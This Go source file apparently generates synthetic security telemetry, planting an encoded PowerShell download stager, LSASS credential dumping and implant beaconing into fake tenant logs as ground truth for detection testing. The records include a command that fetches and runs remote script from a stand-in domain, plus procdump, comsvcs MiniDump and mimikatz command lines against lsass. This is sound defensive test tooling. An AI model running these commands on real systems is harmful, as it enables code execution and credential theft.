package synth

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"sort"
	"strings"
	"time"
	"unicode/utf16"
)

// Indicators of the encoded PowerShell scenario's second stage.
const (
	StagingDomain = "cdn-files.invoice-portal.example"
	StagingIP     = "192.0.2.45"
)

// StagerScript is the PowerShell that the planted encoded command decodes to.
const StagerScript = "IEX (New-Object Net.WebClient).DownloadString('http://" + StagingDomain +
	"/stage2.ps1')"

// EncodePowerShell encodes a script the way powershell.exe -EncodedCommand expects it: base64
// of its UTF-16LE bytes.
func EncodePowerShell(script string) string {
	units := utf16.Encode([]rune(script))
	buf := make([]byte, 2*len(units))
	for i, u := range units {
		binary.LittleEndian.PutUint16(buf[2*i:], u)
	}
	return base64.StdEncoding.EncodeToString(buf)
}

// plant chooses, from the seed, which tenants get which scenarios, and plants them. About
// two fifths of the tenants stay clean; each scenario lands in at least one tenant.
func (d *Dataset) plant() {
	r := keyed(d.Config.Seed, label("plant"))
	order := append([]*tenant(nil), d.leaves...)
	for i := len(order) - 1; i > 0; i-- {
		j := r.intn(i + 1)
		order[i], order[j] = order[j], order[i]
	}
	clean := len(order) * 2 / 5
	dirty := order[clean:]
	all := Scenarios()
	for i, t := range dirty {
		chosen := []Scenario{all[i%len(all)]}
		switch {
		case len(dirty) < len(all) && i == len(dirty)-1:
			chosen = all[i%len(all):] // too few tenants: the last one takes the rest
		case r.chance(0.3):
			chosen = append(chosen, all[(i+1+r.intn(len(all)-1))%len(all)])
		}
		for _, s := range chosen {
			d.Planted = append(d.Planted, d.plantOne(t, s))
		}
	}
	sort.Slice(d.Planted, func(i, j int) bool {
		a, b := d.Planted[i], d.Planted[j]
		if a.TenantID != b.TenantID {
			return a.TenantID < b.TenantID
		}
		return a.Scenario < b.Scenario
	})
	for _, t := range d.leaves {
		for typ := range t.planted {
			sortRecords(t.planted[typ], func(a, b map[string]any) bool { return usec(a) < usec(b) })
		}
	}
}

// planter builds the events of one planted scenario.
type planter struct {
	d    *Dataset
	t    *tenant
	h    *host
	user string
	r    rng
	ids  []string
}

func (p *planter) event(typ int, at time.Time) map[string]any {
	t := p.t
	idx := 0
	for _, recs := range t.planted {
		idx += len(recs)
	}
	us := at.UnixMicro()
	rec := p.d.common(t, typ, p.d.eventID(t, typ, idx, true, us), us, p.r.between(1, 30))
	onHost(rec, t, p.h)
	t.planted[typ] = append(t.planted[typ], rec)
	p.d.plantedByID[rec["id"].(string)] = rec
	p.ids = append(p.ids, rec["id"].(string))
	return rec
}

// process plants a process event and returns it; parent is the parent's event, or nil for a
// process started from the desktop.
func (p *planter) process(at time.Time, image, cmd string, parent map[string]any) map[string]any {
	return p.processUnder(at, image, cmd, parent, `C:\Windows\explorer.exe`)
}

// processUnder is process with the long-running parent to use when parent is nil.
func (p *planter) processUnder(at time.Time, image, cmd string, parent map[string]any,
	parentImage string) map[string]any {
	rec := p.event(typeProcess, at)
	sha, md5 := p.d.fileHashes(image)
	rec["commandline"] = cmd
	rec["image_path"] = image
	rec["program"] = baseName(image)
	rec["username"] = p.user
	rec["process_id"] = int64(p.r.between(1000, 65000))
	rec["process_correlation_id"] = p.r.uuid()
	rec["sha256"] = sha
	rec["md5"] = md5
	rec["was_blocked"] = false
	if parent != nil {
		rec["parent_process_id"] = parent["process_id"]
		rec["parent_process_correlation_id"] = parent["process_correlation_id"]
		rec["parent_image_path"] = parent["image_path"]
	} else {
		ppcid, ppid := p.d.parentOf(p.t, p.h, parentImage, at.UnixMicro())
		rec["parent_process_id"] = ppid
		rec["parent_process_correlation_id"] = ppcid
		rec["parent_image_path"] = parentImage
	}
	return rec
}

// byProcess copies the process identity of proc into an event it caused.
func byProcess(rec, proc map[string]any) {
	rec["process_correlation_id"] = proc["process_correlation_id"]
	rec["process_id"] = proc["process_id"]
	rec["image_path"] = proc["image_path"]
	rec["username"] = proc["username"]
}

func (p *planter) dns(at time.Time, proc map[string]any, name, addr string) map[string]any {
	rec := p.event(typeDNS, at)
	byProcess(rec, proc)
	rec["query_name"] = name
	rec["query_type"] = "A"
	rec["response_code"] = "NOERROR"
	rec["answers"] = []any{addr}
	rec["source_address"] = p.h.ip
	rec["destination_address"] = dnsServer(p.t)
	rec["destination_port"] = int64(53)
	return rec
}

func (p *planter) netflow(at time.Time, proc map[string]any, addr string,
	port int64) map[string]any {
	rec := p.event(typeNetflow, at)
	byProcess(rec, proc)
	rec["source_address"] = p.h.ip
	rec["source_port"] = int64(p.r.between(49152, 65535))
	rec["destination_address"] = addr
	rec["destination_port"] = port
	rec["protocol"] = "TCP"
	rec["direction"] = "OUTBOUND"
	rec["bytes_sent"] = int64(p.r.between(380, 460))
	rec["bytes_received"] = int64(p.r.between(1100, 1400))
	rec["packets_sent"] = int64(p.r.between(4, 6))
	rec["packets_received"] = int64(p.r.between(4, 7))
	return rec
}

func (p *planter) http(at time.Time, proc map[string]any, url, addr, agent string) map[string]any {
	rec := p.event(typeHTTP, at)
	byProcess(rec, proc)
	dom := strings.SplitN(strings.SplitN(url, "//", 2)[1], "/", 2)[0]
	rec["url"] = url
	rec["domain"] = dom
	rec["http_method"] = "GET"
	rec["http_status_code"] = int64(200)
	rec["user_agent"] = agent
	rec["source_address"] = p.h.ip
	rec["destination_address"] = addr
	rec["destination_port"] = int64(443)
	if strings.HasPrefix(url, "http://") {
		rec["destination_port"] = int64(80)
	}
	rec["bytes_received"] = int64(p.r.between(2000, 90_000))
	rec["content_type"] = "text/plain"
	return rec
}

func (p *planter) file(at time.Time, proc map[string]any, path, action string) map[string]any {
	rec := p.event(typeFilemod, at)
	byProcess(rec, proc)
	sha, md5 := p.d.fileHashes(path)
	rec["file_path"] = path
	rec["file_name"] = baseName(path)
	rec["action"] = action
	rec["sha256"] = sha
	rec["md5"] = md5
	rec["file_size"] = int64(p.r.between(40_000_000, 90_000_000))
	return rec
}

// workday returns a time between daysAgo-1 and daysAgo days before now, during office hours.
func (p *planter) workday(daysAgo int) time.Time {
	now := p.d.Config.Now
	day := now.AddDate(0, 0, -daysAgo).Truncate(24 * time.Hour)
	return day.Add(time.Duration(p.r.between(9*3600_000, 16*3600_000)) * time.Millisecond)
}

func (d *Dataset) plantOne(t *tenant, s Scenario) Planting {
	p := &planter{d: d, t: t, r: keyed(d.Config.Seed, label("planted"), t.num, label(string(s)))}
	var alerts []map[string]any
	switch s {
	case ScenarioEncodedPowerShell:
		alerts = p.encodedPowerShell()
	case ScenarioCredentialDumping:
		alerts = p.credentialDumping()
	case ScenarioBeaconing:
		alerts = p.beaconing()
	}
	pl := Planting{TenantID: t.id, Scenario: s, HostID: p.h.id, Hostname: p.h.hostname,
		Username: p.user, EventIDs: p.ids}
	var times []int64
	for _, id := range p.ids {
		times = append(times, usec(d.plantedByID[id]))
	}
	sort.Slice(times, func(i, j int) bool { return times[i] < times[j] })
	sort.SliceStable(pl.EventIDs, func(i, j int) bool {
		return usec(d.plantedByID[pl.EventIDs[i]]) < usec(d.plantedByID[pl.EventIDs[j]])
	})
	pl.Start, pl.End = time.UnixMicro(times[0]).UTC(), time.UnixMicro(times[len(times)-1]).UTC()
	for _, a := range alerts {
		pl.AlertIDs = append(pl.AlertIDs, a["id"].(string))
	}
	return pl
}

// hostWhere picks the first host that ok accepts, or the first host.
func (t *tenant) hostWhere(ok func(*host) bool) *host {
	for _, h := range t.hosts {
		if ok(h) {
			return h
		}
	}
	return t.hosts[0]
}

// anyHostWhere picks one of the hosts that ok accepts at random, or the first host.
func (t *tenant) anyHostWhere(r *rng, ok func(*host) bool) *host {
	var hs []*host
	for _, h := range t.hosts {
		if ok(h) {
			hs = append(hs, h)
		}
	}
	if len(hs) == 0 {
		return t.hosts[0]
	}
	return pick(r, hs)
}

func (p *planter) encodedPowerShell() []map[string]any {
	p.h = p.t.anyHostWhere(&p.r, func(h *host) bool { return strings.Contains(h.hostname, "-WKS-") })
	p.user = p.h.users[0]
	at := p.workday(p.r.between(1, 5))
	doc := fmt.Sprintf(`C:\Users\%s\Downloads\Invoice_%d.docm`, bareUser(p.user),
		p.r.between(1000, 9999))
	word := p.process(at, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		fmt.Sprintf(`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "%s"`, doc), nil)
	enc := EncodePowerShell(StagerScript)
	cmd := p.process(at.Add(4*time.Second), `C:\Windows\System32\cmd.exe`,
		`C:\Windows\system32\cmd.exe /c powershell.exe -nop -w hidden -enc `+enc, word)
	ps := p.process(at.Add(5*time.Second), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"powershell.exe -nop -w hidden -enc "+enc, cmd)
	p.dns(at.Add(6*time.Second), ps, StagingDomain, StagingIP)
	p.netflow(at.Add(7*time.Second), ps, StagingIP, 80)
	p.http(at.Add(7*time.Second), ps, "http://"+StagingDomain+"/stage2.ps1", StagingIP,
		"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4249")
	p.file(at.Add(9*time.Second), ps, fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\stage2.ps1`,
		bareUser(p.user)), "CREATE")
	a := p.d.alert(&p.r, alertSpec{det: detEncodedPowerShell, t: p.t, host: p.h, user: p.user,
		at: at.Add(90 * time.Second), severity: 0.74, confidence: 0.9,
		events: []map[string]any{cmd, ps}, status: "OPEN",
		entities: []string{"processCorrelationId:" + ps["process_correlation_id"].(string),
			"domainName:" + StagingDomain}})
	return []map[string]any{a}
}

// MimikatzImage is where the planted credential dumping runs mimikatz from.
const MimikatzImage = `C:\Users\Public\mimikatz.exe`

func (p *planter) credentialDumping() []map[string]any {
	p.h = p.t.anyHostWhere(&p.r, func(h *host) bool { return strings.Contains(h.hostname, "-SRV-") })
	p.user = p.h.users[len(p.h.users)-1]
	at := p.workday(p.r.between(1, 6))
	lsassPID := int64(p.r.between(600, 900))
	shell := p.process(at, `C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe`, nil)

	dump := p.process(at.Add(2*time.Minute), `C:\Windows\Temp\procdump64.exe`,
		`C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp`, shell)
	dump["target_process_image_path"] = `C:\Windows\System32\lsass.exe`
	dump["target_process_id"] = lsassPID
	dump["granted_access"] = "0x1fffff"
	dumpFile := p.file(at.Add(2*time.Minute+3*time.Second), dump, `C:\Windows\Temp\lsass.dmp`,
		"CREATE")

	mini := p.process(at.Add(11*time.Minute), `C:\Windows\System32\rundll32.exe`,
		fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d `+
			`C:\Windows\Temp\debug.bin full`, lsassPID), shell)
	mini["target_process_image_path"] = `C:\Windows\System32\lsass.exe`
	mini["target_process_id"] = lsassPID
	mini["granted_access"] = "0x1fffff"
	miniFile := p.file(at.Add(11*time.Minute+2*time.Second), mini, `C:\Windows\Temp\debug.bin`,
		"CREATE")

	katz := p.process(at.Add(19*time.Minute), MimikatzImage,
		MimikatzImage+` "privilege::debug" "sekurlsa::logonpasswords" exit`, shell)
	katz["target_process_image_path"] = `C:\Windows\System32\lsass.exe`
	katz["target_process_id"] = lsassPID
	katz["granted_access"] = "0x1010"

	// The stolen credentials are then used for a network logon to the domain controller.
	logon := p.event(typeAuth, at.Add(27*time.Minute))
	logon["username"] = `CORP\Administrator`
	logon["target_username"] = `CORP\Administrator`
	logon["source_address"] = p.h.ip
	logon["destination_address"] = fmt.Sprintf("10.%d.0.10", p.t.netA)
	logon["logon_type"] = "Network"
	logon["auth_method"] = "NTLM"
	logon["domain"] = "CORP"
	logon["program"] = `C:\Windows\System32\winlogon.exe`
	logon["auth_result"] = "SUCCESS"
	logon["failure_reason"] = nil

	var alerts []map[string]any
	for i, evs := range [][]map[string]any{{dump, dumpFile}, {mini, miniFile}, {katz}} {
		title := []string{"LSASS Memory Dump with ProcDump", "LSASS MiniDump via comsvcs.dll",
			"Mimikatz sekurlsa::logonpasswords"}[i]
		proc := evs[0]
		alerts = append(alerts, p.d.alert(&p.r, alertSpec{det: detCredentialDumping, t: p.t,
			host: p.h, user: p.user, title: title,
			at:       time.UnixMicro(usec(proc)).UTC().Add(45 * time.Second),
			severity: 0.9 + 0.02*float64(i), confidence: 0.95, events: evs, status: "OPEN",
			entities: []string{"processCorrelationId:" + proc["process_correlation_id"].(string),
				"fileName:" + baseName(proc["image_path"].(string))}}))
	}
	return alerts
}

// Beacon timing of the planted implant.
const (
	BeaconInterval = 5 * time.Minute
	BeaconCount    = 96
)

// ImplantImage is the planted beaconing implant.
const ImplantImage = `C:\ProgramData\CdnUpdate\cdnupdate.exe`

func (p *planter) beaconing() []map[string]any {
	p.h = p.t.anyHostWhere(&p.r, func(h *host) bool { return strings.Contains(h.hostname, "-WKS-") })
	p.user = p.h.users[0]
	start := p.d.Config.Now.Add(-time.Duration(p.r.between(20*3600, 40*3600)) * time.Second)
	// A scheduled task starts the implant, so its parent is the task service's svchost.exe.
	implant := p.processUnder(start, ImplantImage, `"`+ImplantImage+`" --silent --task update`,
		nil, `C:\Windows\System32\svchost.exe`)

	var sample []map[string]any
	for i := 0; i < BeaconCount; i++ {
		jitter := time.Duration(p.r.between(-2000, 2000)) * time.Millisecond
		at := start.Add(time.Duration(i+1)*BeaconInterval + jitter)
		q := p.dns(at, implant, BadDomain, BadIP)
		flow := p.netflow(at.Add(40*time.Millisecond), implant, BadIP, 443)
		if i%4 == 0 {
			p.http(at.Add(60*time.Millisecond), implant,
				fmt.Sprintf("https://%s/api/v2/check?id=%s", BadDomain, p.h.id[:8]), BadIP,
				"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)")
		}
		if i < 5 {
			sample = append(sample, q, flow)
		}
	}
	a := p.d.alert(&p.r, alertSpec{det: detBeaconing, t: p.t, host: p.h, user: p.user,
		at:       start.Add(6*BeaconInterval + time.Minute),
		severity: 0.78, confidence: 0.85, events: append([]map[string]any{implant}, sample...),
		totalEvents: 1 + 2*BeaconCount + BeaconCount/4, status: "OPEN",
		entities: []string{"domainName:" + BadDomain, "ipAddress:" + BadIP,
			"processCorrelationId:" + implant["process_correlation_id"].(string)}})
	return []map[string]any{a}
}
